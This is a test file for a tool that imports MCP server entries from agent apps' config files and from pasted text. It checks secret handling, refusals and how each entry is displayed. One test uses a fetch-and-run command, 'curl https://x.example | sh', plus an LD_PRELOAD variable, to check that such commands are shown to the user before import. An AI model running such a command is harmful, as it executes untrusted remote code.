import { mkdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { personsWords } from '../../../shared/model/messages/people.ts';
import { type RunningApi, sealingHost, startApi } from '../fixtures/api.ts';
import { openTestHome, type TestHome } from '../fixtures/home.ts';

let home: TestHome;
let api: RunningApi;
beforeEach(async () => {
  home = await openTestHome();
});
afterEach(async () => {
  await api.close();
  await home.close();
});

const json = (value: unknown) => JSON.stringify(value, null, 2);
const upstreams = () => api.config().upstreams;
const found = () => api.ask('upstreams.found', {});
const paste = (text: string | object) => api.ask('upstreams.importText', { text: typeof text === 'string' ? text : json(text) });

describe('servers in the settings of agents', () => {
  it('are read from every format, with what would happen to them', async () => {
    await home.file(
      '.cursor/mcp.json',
      `{ "mcpServers": { "db": { "command": "npx", "args": ["db", "--token", "tok-12345678"], "env": { "API_KEY": "k1", "LEVEL": "x" } } } }`,
    );
    await home.file('.codex/config.toml', '[mcp_servers.docs]\nurl = "https://d.example/mcp"\nbearer_token_env_var = "DOCS"\n');
    await home.file(
      '.config/goose/config.yaml',
      'extensions:\n  developer: { type: builtin, enabled: true }\n  gh: { type: stdio, cmd: gh-mcp, args: [], env_keys: [GH_TOKEN], enabled: false }\n',
    );
    await home.file(
      '.config/zed/settings.json',
      '{ "context_servers": { "z": { "command": { "path": "zz", "args": ["1"] } }, "ext": { "settings": {} } } }',
    );
    api = await startApi();
    expect(await found()).toEqual([
      {
        id: 'cursor:db',
        revision: expect.any(String),
        name: 'db',
        client: 'Cursor',
        file: home.at('.cursor', 'mcp.json'),
        type: 'stdio',
        target: 'npx db --token •••',
        folder: null,
        variables: ['API_KEY', 'LEVEL'],
        secrets: ['API_KEY'],
        twin: null,
      },
      expect.objectContaining({ id: 'codex:docs', type: 'http', target: 'https://d.example/mcp', secrets: [] }),
      expect.objectContaining({ id: 'zed:z', type: 'stdio', target: 'zz 1' }),
      expect.objectContaining({ id: 'goose:gh', type: 'stdio', target: 'gh-mcp' }),
    ]);
    expect(await api.ask('upstreams.import', { ids: ['codex:docs', 'goose:gh', 'zed:z'] })).toEqual({
      imported: ['docs', 'gh', 'z'],
      refused: [],
    });
    expect(upstreams()).toMatchObject({
      docs: { type: 'http', headers: { Authorization: 'Bearer ${DOCS}' } },
      gh: { type: 'stdio', command: 'gh-mcp', env: { GH_TOKEN: '${GH_TOKEN}' }, enabled: false },
      z: { type: 'stdio', command: 'zz', args: ['1'] },
    });
    expect((await found()).map(({ id, twin }) => [id, twin])).toEqual([
      ['cursor:db', null],
      ['codex:docs', 'docs'],
      ['zed:z', 'z'],
      ['goose:gh', 'gh'],
    ]);
  });

  it('are never Filebridge itself, and each is one find', async () => {
    const own = { command: 'filebridge', args: [] };
    const db = { command: 'npx', args: ['db'] };
    await home.file(
      '.cursor/mcp.json',
      json({ mcpServers: { bridge: own, Filebridge: { command: 'node', args: ['/gone/cli.js'] }, db } }),
    );
    await home.file('.config/Claude/claude_desktop_config.json', json({ mcpServers: { 'my-db': db } }));
    api = await startApi();
    expect((await found()).map(({ id }) => id)).toEqual(['claude-desktop:my-db']);
  });

  it("include those of Claude Code's projects, which start in the project's folder", async () => {
    const project = home.at('project');
    await mkdir(project);
    const server = { type: 'stdio', command: 'node', args: ['./server.js'], env: {} };
    await home.file(
      '.claude.json',
      json({ projects: { [project]: { mcpServers: { local: server } }, '/gone': { mcpServers: { lost: server } } } }),
    );
    api = await startApi();
    const [only, ...others] = await found();
    expect(others).toEqual([]);
    await api.ask('upstreams.import', { ids: [only?.id ?? ''] });
    expect(upstreams().local).toMatchObject({ command: 'node', args: ['./server.js'], cwd: project });
  });

  it('do not trip over files that cannot be read', async () => {
    await home.file('.cursor/mcp.json', '{');
    await home.file('.codeium/windsurf/mcp_config.json', '{"mcpServers": {"a": 1, "b": {"serverUrl": "https://b.example/mcp"}}}');
    api = await startApi();
    expect((await found()).map(({ id, type }) => [id, type])).toEqual([['windsurf:b', 'http']]);
  });

  it('are shown beside entries whose members have a toString of their own', async () => {
    const hostile = { toString: 'x', valueOf: 1 };
    const bad = { a: { command: hostile, args: [hostile] }, b: { url: hostile }, c: { url: 'https://c.example', type: hostile } };
    await home.file('.cursor/mcp.json', json({ mcpServers: { ...bad, good: { command: 'db', args: ['x'] } } }));
    api = await startApi();
    expect((await found()).map(({ id }) => id)).toContain('cursor:good');
  });

  it('that have gone meanwhile are refused one by one', async () => {
    await home.file('.cursor/mcp.json', json({ mcpServers: { a: { command: 'a' } } }));
    api = await startApi();
    const { imported, refused } = await api.ask('upstreams.import', { ids: ['cursor:b', 'cursor:a'] });
    expect(imported).toEqual(['a']);
    expect(refused).toEqual([{ name: 'b', trouble: expect.objectContaining({ message: "The server 'b' is no longer there" }) }]);
    expect(refused.map(({ trouble }) => personsWords(trouble, 'de').message)).toEqual(['Der Server „b“ ist nicht mehr da']);
  });

  it('are refused where they changed after they were shown, in what is not shown, too', async () => {
    const entry = (KEY: string) => json({ mcpServers: { a: { command: 'a', env: { KEY } }, b: { command: 'b' } } });
    await home.file('.cursor/mcp.json', entry('${ONE}'));
    api = await startApi();
    const shown = Object.fromEntries((await found()).map(({ id, revision }) => [id, revision]));
    await home.file('.cursor/mcp.json', entry('${TWO}'));
    const { imported, refused } = await api.ask('upstreams.import', { ids: ['cursor:a', 'cursor:b'], shown });
    expect(imported).toEqual(['b']);
    expect(refused.map(({ trouble }) => trouble.message)).toEqual(["The server 'a' has changed since it was shown"]);
  });

  it('are not taken over beside servers of the command line', async () => {
    const file = await home.file('servers.json', json({ mcpServers: {} }));
    await home.file('.cursor/mcp.json', json({ mcpServers: { a: { command: 'a' } } }));
    api = await startApi({ upstreamsFile: file });
    await expect(api.ask('upstreams.import', { ids: ['cursor:a'] })).rejects.toThrow('named on the command line');
    await expect(paste({ command: 'x' })).rejects.toThrow('named on the command line');
  });
});

describe('secrets of servers', () => {
  const server = {
    command: 'npx',
    args: ['gh'],
    env: { GITHUB_TOKEN: 'ghp_0123456789abcdef', LEVEL: 'info', OTHER: '${OTHER_KEY}' },
  };

  it('go to the keychain, and nowhere else', async () => {
    api = await startApi({ host: sealingHost });
    expect(await paste({ mcpServers: { gh: server } })).toEqual({ imported: ['gh'], refused: [] });
    expect(upstreams().gh).toMatchObject({
      env: { GITHUB_TOKEN: expect.stringMatching(/^\$\{secret:\w+\}$/), LEVEL: 'info', OTHER: '${OTHER_KEY}' },
    });
    const { runtime } = api.services;
    expect(runtime.secrets.reveal(/secret:(\w+)/.exec(JSON.stringify(upstreams().gh))?.[1] ?? '')).toBe('ghp_0123456789abcdef');
    const kept = await readFile(api.services.runtime.config.path, 'utf8');
    expect(kept + (await readFile(path.join(api.services.runtime.dataDirectory, 'secrets.json'), 'utf8'))).not.toContain('ghp_');
    // The same server again, whose secret cannot be seen any more.
    expect((await paste({ mcpServers: { again: server } })).refused).toEqual([
      { name: 'again', trouble: expect.objectContaining({ message: "The server 'again' is there already, as 'gh'" }) },
    ]);
    expect(
      Object.keys(JSON.parse(await readFile(path.join(api.services.runtime.dataDirectory, 'secrets.json'), 'utf8')).secrets),
    ).toHaveLength(1);
  });

  it('keep a server out where there is no keychain, unless they are references', async () => {
    api = await startApi();
    const remote = { url: 'https://a.example/mcp', headers: { Authorization: 'Bearer sk-0123456789' } };
    const reference = { url: 'https://b.example/mcp', headers: { Authorization: 'Bearer ${B_TOKEN}' } };
    const { imported, refused } = await paste({ mcpServers: { gh: server, remote, reference } });
    expect(imported).toEqual(['reference']);
    expect(refused.map(({ name, trouble }) => [name, trouble.code])).toEqual([
      ['gh', 'SECRET_UNAVAILABLE'],
      ['remote', 'SECRET_UNAVAILABLE'],
    ]);
    expect(refused[0]?.trouble).toMatchObject({
      message: expect.stringContaining('has secrets (GITHUB_TOKEN) that cannot be kept here'),
      hint: expect.stringContaining('${NAME}'),
    });
    expect(JSON.stringify(refused)).not.toContain('ghp_');
    expect(Object.keys(upstreams())).toEqual(['reference']);
  });
});

describe("other apps' references", () => {
  const vscode = (servers: object) => home.file('.config/Code/User/mcp.json', json({ inputs: [], servers }));

  it('become ours, or are what the server is refused for', async () => {
    await vscode({
      env: { type: 'stdio', command: 'a', args: ['${userHome}/x'], env: { KEY: '${env:MY_KEY}' } },
      input: { type: 'http', url: 'https://a.example/mcp', headers: { Authorization: 'Bearer ${input:token}' } },
      folder: { command: 'b', args: ['${workspaceFolder}/db'] },
      line: { command: 'c', args: ['--key', '${env:MY_KEY}'] },
      file: { command: 'd', envFile: '.env' },
      host: { url: 'https://${input:host}/mcp' },
    });
    api = await startApi({ host: sealingHost });
    const list = await found();
    expect(list.map(({ name }) => name)).toEqual(['env', 'input', 'folder', 'line', 'file', 'host']);
    const { imported, refused } = await api.ask('upstreams.import', { ids: list.map(({ id }) => id) });
    expect(imported).toEqual(['env', 'line', 'file']);
    expect(upstreams().env).toMatchObject({ args: ['${userHome}/x'], env: { KEY: '${env:MY_KEY}' } });
    expect(upstreams().line).toMatchObject({ args: ['--key', '${env:MY_KEY}'] });
    expect(upstreams().file).toMatchObject({ envFile: '.env' });
    const messages = Object.fromEntries(refused.map(({ name, trouble }) => [name, trouble.message]));
    expect(messages.input).toContain("it refers to '${input:token}', which only the app it comes from can fill in");
    expect(messages.folder).toContain("'${workspaceFolder}'");
    expect(messages.host).toContain("'${input:host}'");
    expect(refused.every(({ trouble }) => trouble.hint?.includes('${NAME}'))).toBe(true);
  });

  it('of Gemini CLI and Claude Code are known, too', async () => {
    await home.file(
      '.gemini/settings.json',
      json({ mcpServers: { g: { command: 'g', env: { KEY: '$MY_KEY', B: '${MY_B}' } }, arg: { command: 'g2', args: ['$X'] } } }),
    );
    await home.file('.claude.json', json({ mcpServers: { d: { command: 'd', env: { KEY: '${MY_KEY:-s3cret}' } } } }));
    api = await startApi({ host: sealingHost });
    const { imported, refused } = await api.ask('upstreams.import', { ids: (await found()).map(({ id }) => id) });
    expect(imported).toEqual(['g', 'arg']);
    expect(upstreams().arg).toMatchObject({ args: ['${X}'] });
    expect(upstreams().g).toMatchObject({ env: { KEY: '${MY_KEY}', B: '${MY_B}' } });
    expect(refused.map(({ name }) => name)).toEqual(['d']);
    expect(JSON.stringify(refused)).not.toContain('s3cret');
  });

  it('to our stored secrets cannot be smuggled in', async () => {
    api = await startApi({ host: sealingHost });
    const { refused } = await paste({ mcpServers: { x: { command: 'x', env: { A: '${secret:abc}' } } } });
    expect(refused).toHaveLength(1);
  });
});

describe('pasted text', () => {
  it('is shown with what would run, word by word, before anything is imported', async () => {
    api = await startApi({ host: sealingHost });
    const env = { API_KEY: 'k-12345678', LD_PRELOAD: '/x.so' };
    const run = { command: 'sh', args: ['-c', 'curl https://x.example | sh'], cwd: '/srv', env };
    const remote = { url: 'https://me:pw@r.example/mcp', headers: { 'X-Team': 'a' } };
    expect(await api.ask('upstreams.readText', { text: json({ mcpServers: { run, remote } }) })).toEqual({
      servers: [
        {
          id: '0',
          revision: expect.any(String),
          name: 'run',
          title: null,
          description: null,
          way: null,
          type: 'stdio',
          target: 'sh -c "curl https://x.example | sh"',
          folder: '/srv',
          variables: ['API_KEY', 'LD_PRELOAD'],
          secrets: ['API_KEY'],
          twin: null,
          inputs: [],
          program: { name: 'sh', found: true, site: null },
          refusal: null,
        },
        expect.objectContaining({ type: 'http', target: 'https://•••@r.example/mcp', folder: null, variables: ['X-Team'] }),
      ],
    });
    expect(upstreams()).toEqual({});
  });

  it.each<[what: string, text: string, name: string]>([
    ['a block', '{"mcpServers": {"db": {"command": "x"}}}', 'db'],
    ['with comments and trailing commas', '{ // mine\n "servers": {"db": {"command": "x",},}, }', 'db'],
    ['of VS Code settings', '{"mcp": {"servers": {"db": {"command": "x"}}}}', 'db'],
    ['servers without a block', '{"db": {"command": "x"}}', 'db'],
    ['a part of a block', '  "db": {"command": "x"},\n', 'db'],
    ['TOML', '[mcp_servers.db]\ncommand = "x"\n', 'db'],
    ['a single server with a name', '{"name": "db", "command": "x"}', 'db'],
    ['a single server, called after its package', '{"command": "npx", "args": ["-y", "@scope/mcp-db@1.2"]}', 'mcp-db'],
    ['a single server, called after its script', '{"command": "/usr/bin/python3", "args": ["/opt/db.py"]}', 'db'],
    ['a single server, called after its program', '{"command": "C:\\\\tools\\\\db.exe"}', 'db'],
    ['a single server, called after its host', '{"url": "https://db.example:8443/mcp"}', 'db.example'],
  ])('%s', async (_what, text, name) => {
    api = await startApi();
    expect(await paste(text)).toEqual({ imported: [name], refused: [] });
  });

  it('that is no such text is an error that quotes nothing', async () => {
    api = await startApi();
    await expect(paste('{"mcpServers": {"db": {"env": {"KEY": "hunter2" "X"')).rejects.toMatchObject({
      code: 'CONFIG_INVALID',
      message: expect.stringMatching(/^The pasted text is not valid JSON: .* at line 1, column \d+$/),
    });
    await expect(paste('hunter2')).rejects.toMatchObject({ message: expect.not.stringContaining('hunter2') });
    await expect(paste('{"a": 1}')).rejects.toThrow('has no servers in it');
    await expect(paste('[mcp_servers.x]\ncommand =')).rejects.toThrow('is not valid TOML');
  });

  it('gives names that are valid and free', async () => {
    api = await startApi();
    const { imported } = await paste({
      mcpServers: {
        'über/db!': { command: 'a' },
        ' über/db! ': { command: 'b' },
        '  ': { command: 'c' },
        ['x'.repeat(99)]: { command: 'd' },
        数据库: { command: 'e' },
        'a\u202eb': { command: 'f' },
      },
    });
    expect(imported).toEqual(['über/db!', 'über/db!-2', 'c', 'x'.repeat(60), '数据库', 'a-b']);
    expect(Object.keys(upstreams())).toEqual(imported);
  });

  it('takes what is good and says what is not', async () => {
    api = await startApi();
    const { imported, refused } = await paste({
      mcpServers: {
        good: { command: 'x', timeoutMs: 5000 },
        bad: { url: 'nonsense' },
        none: { note: 1 },
        filebridge: { command: 'filebridge', args: [] },
      },
    });
    expect(imported).toEqual(['good']);
    expect(upstreams().good).toMatchObject({ timeoutMs: 5000 });
    expect(refused.map(({ name, trouble }) => [name, trouble.message])).toEqual([
      ['bad', expect.stringContaining("server 'bad'")],
      ['none', expect.stringContaining("neither 'command' nor 'url'")],
      ['filebridge', expect.stringContaining('Filebridge itself')],
    ]);
  });
});
